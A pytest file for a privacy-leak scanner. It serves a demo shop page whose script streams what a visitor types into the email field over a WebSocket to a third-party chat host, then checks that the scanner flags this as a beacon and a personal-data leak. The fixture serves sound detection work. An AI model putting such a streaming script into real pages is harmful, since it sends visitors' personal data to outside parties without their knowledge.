"""Messages a page sends over a WebSocket to another site are a beacon, and the leak search
reads them: the real Chromium against a loopback socket that completes the handshake."""

from __future__ import annotations

import base64
import hashlib
from typing import Any

import pytest

from scanner.demo.server import Host, Incoming, Response, SiteServer
from scanner.model import ScanResult
from tests.conftest import scan_loopback

pytestmark = [pytest.mark.browser]

CHAT = "live.chatdesk.net"

PAGE = f"""<!doctype html><title>Help</title>
<form action="/ask" method="post"><label>E-mail <input type="email" name="email"></label></form>
<script>
  // A support chat that streams what the visitor types to its server as they type.
  const socket = new WebSocket("wss://{CHAT}/socket?site=shop");
  document.querySelector("input").addEventListener("input", (event) => {{
    if (socket.readyState === 1) socket.send(JSON.stringify({{ typing: event.target.value }}));
  }});
  socket.addEventListener("open", () => socket.send(JSON.stringify({{ hello: "visitor" }})));
</script>
<footer><a href="/privacy">Privacy</a></footer>"""


def upgrade(request: Incoming) -> Response:
    """The server half of a WebSocket handshake (RFC 6455); frames after it are not read."""
    key = request.headers.get("sec-websocket-key", "")
    digest = hashlib.sha1((key + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11").encode()).digest()
    return Response(
        b"",
        101,
        headers=[
            ("Upgrade", "websocket"),
            ("Connection", "Upgrade"),
            ("Sec-WebSocket-Accept", base64.b64encode(digest).decode()),
        ],
    )


@pytest.fixture(scope="module")
def scanned(pki: Any, tmp_path_factory: pytest.TempPathFactory) -> ScanResult:
    hosts = [
        Host(
            "www.shopfront.com",
            routes={"/": Response(PAGE), "/privacy": Response("<p>We use cookies.</p>")},
        ),
        Host(CHAT, routes={"/socket": upgrade}),
    ]
    with SiteServer(hosts, pki) as server:
        return scan_loopback(server, "www.shopfront.com", tmp_path_factory.mktemp("ws"))


def test_a_socket_that_carries_messages_is_a_beacon(scanned: ScanResult) -> None:
    (beacon,) = [b for b in scanned.beacons if CHAT in b.url]
    assert (beacon.kind, beacon.vendor) == ("websocket", "unknown recipient chatdesk.net")


def test_what_is_typed_and_sent_over_the_socket_is_a_leak(scanned: ScanResult) -> None:
    (finding,) = [f for f in scanned.findings if f.rule_id == "pi-sent-to-third-party"]
    assert finding.host == "chatdesk.net"
    assert {leak["where"] for leak in finding.evidence["leaks"]} == {"body"}
